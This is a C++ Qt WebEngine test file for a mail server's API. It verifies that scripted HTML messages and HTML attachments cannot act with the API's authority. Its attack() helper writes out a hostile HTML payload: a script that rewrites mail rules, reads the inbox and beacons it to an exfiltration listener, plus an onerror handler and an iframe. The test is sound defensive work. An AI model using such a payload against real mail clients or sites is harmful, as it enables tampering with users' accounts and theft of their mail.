// Message content served by the API, opened in a real browser engine (Qt WebEngine, JavaScript on as in any
// browser): a mailed script never runs with the API's authority — it cannot read the inbox, change the rules or
// reach anything — whether the message is opened at /view/{ID}.html or an HTML attachment at /part/{PartID}.
// Needs a real X server (xvfb-run): Qt WebEngine does not render offscreen.
#include "uitestsupport.h"

#include <api/apiserver.h>
#include <rules/ruleengine.h>

#include <QApplication>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEngineDownloadRequest>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineSettings>

class TestApiView : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void scriptsInTheControlPageRun();
    void viewedMessageCannotActWithTheApisAuthority();
    void htmlAttachmentIsADownloadNotAPage();

private:
    QByteArray attack() const;
    QString url(const QString &path) const;

    QTemporaryDir m_dir;
    SqliteMessageStore m_store;
    RuleEngine m_rules;
    std::unique_ptr<ApiServer> m_api;
    UiTest::HitCounter m_exfil;
    std::unique_ptr<QWebEngineProfile> m_profile;
};

void TestApiView::initTestCase()
{
    QVERIFY(m_store.open(m_dir.path()));
    m_api = std::make_unique<ApiServer>(&m_store);
    m_api->setRules(&m_rules, nullptr);
    QVERIFY(m_api->listen(QHostAddress::LocalHost, 0));
    QVERIFY(m_exfil.listen(QHostAddress::LocalHost, 0));
    // A browser's defaults: JavaScript on, nothing locked down by the client.
    m_profile = std::make_unique<QWebEngineProfile>();
    QVERIFY(m_profile->settings()->testAttribute(QWebEngineSettings::JavascriptEnabled));
}

void TestApiView::cleanupTestCase()
{
    m_api.reset();
    m_store.close();
}

QString TestApiView::url(const QString &path) const
{
    return QStringLiteral("http://127.0.0.1:%1%2").arg(m_api->serverPort()).arg(path);
}

// What the adversarial review mailed: inline script, an event handler, a script that PUTs a reject-all rule and
// reads the inbox, and beacons to a listener of the test's that count whether any of it ran.
QByteArray TestApiView::attack() const
{
    const QByteArray exfil = "http://127.0.0.1:" + QByteArray::number(m_exfil.serverPort());
    return "<html><head><title>untouched</title></head><body><p>Hello</p>"
           "<script>document.title='script ran';"
           "fetch('/api/v1/rules',{method:'PUT',body:JSON.stringify({version:1,recipient:[{match:'glob',"
           "pattern:'*'}]})});"
           "fetch('/api/v1/messages').then(r=>r.text()).then(t=>{new Image().src='"
        + exfil
        + "/inbox?'+t.length});"
          "new Image().src='"
        + exfil
        + "/script';</script>"
          "<img src=\"nothing.png\" onerror=\"document.title='handler ran';new Image().src='"
        + exfil + "/onerror'\"><iframe src=\"" + exfil + "/iframe\"></iframe></body></html>";
}

void TestApiView::scriptsInTheControlPageRun()
{
    // The same engine and profile run a page's script when nothing forbids it: the checks below can fail.
    QWebEnginePage page(m_profile.get());
    QSignalSpy loaded(&page, &QWebEnginePage::loadFinished);
    page.setHtml(QStringLiteral("<script>document.title='control ran'</script>"));
    QVERIFY(loaded.wait(20000));
    QTRY_COMPARE_WITH_TIMEOUT(page.title(), QStringLiteral("control ran"), 10000);
}

void TestApiView::viewedMessageCannotActWithTheApisAuthority()
{
    const QByteArray raw = "From: mallory@example.test\r\nTo: victim@example.test\r\nSubject: scripted\r\n"
                           "Content-Type: text/html; charset=utf-8\r\n\r\n"
        + attack() + "\r\n";
    const QString id = UiTest::deliver(m_store, raw);
    QVERIFY(!id.isEmpty());

    QWebEnginePage page(m_profile.get());
    QSignalSpy loaded(&page, &QWebEnginePage::loadFinished);
    page.load(QUrl(url(QStringLiteral("/view/%1.html").arg(id))));
    QVERIFY(loaded.wait(20000));
    QVERIFY(loaded.first().first().toBool());
    // The page is the message (it rendered), yet nothing in it ran or reached anything.
    QTRY_COMPARE_WITH_TIMEOUT(page.title(), QStringLiteral("untouched"), 10000);
    QTest::qWait(1500);
    QCOMPARE(page.title(), QStringLiteral("untouched"));
    QCOMPARE(m_exfil.total(), 0);
    QVERIFY(m_rules.rules().isEmpty());
    QVERIFY(!m_store.summary(id)->read);
}

void TestApiView::htmlAttachmentIsADownloadNotAPage()
{
    const QByteArray raw = "From: mallory@example.test\r\nTo: victim@example.test\r\nSubject: attached page\r\n"
                           "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                           "--b\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n"
                           "--b\r\nContent-Type: text/html; name=page.html\r\n\r\n"
        + attack() + "\r\n--b--\r\n";
    const QString id = UiTest::deliver(m_store, raw);
    QVERIFY(!id.isEmpty());

    QList<QUrl> downloads;
    connect(m_profile.get(), &QWebEngineProfile::downloadRequested, this, [&downloads](QWebEngineDownloadRequest *d) {
        downloads << d->url();
        d->cancel();
    });
    QWebEnginePage page(m_profile.get());
    QSignalSpy loaded(&page, &QWebEnginePage::loadFinished);
    const QUrl part(url(QStringLiteral("/api/v1/message/%1/part/2").arg(id)));
    page.load(part);
    QTRY_COMPARE_WITH_TIMEOUT(downloads.size(), 1, 20000);
    QCOMPARE(downloads.first(), part);
    QTest::qWait(1500);
    QCOMPARE(m_exfil.total(), 0);
    QVERIFY(m_rules.rules().isEmpty());
    QVERIFY(page.title() != QStringLiteral("script ran"));
}

int main(int argc, char *argv[])
{
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    TestApiView test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_apiview.moc"
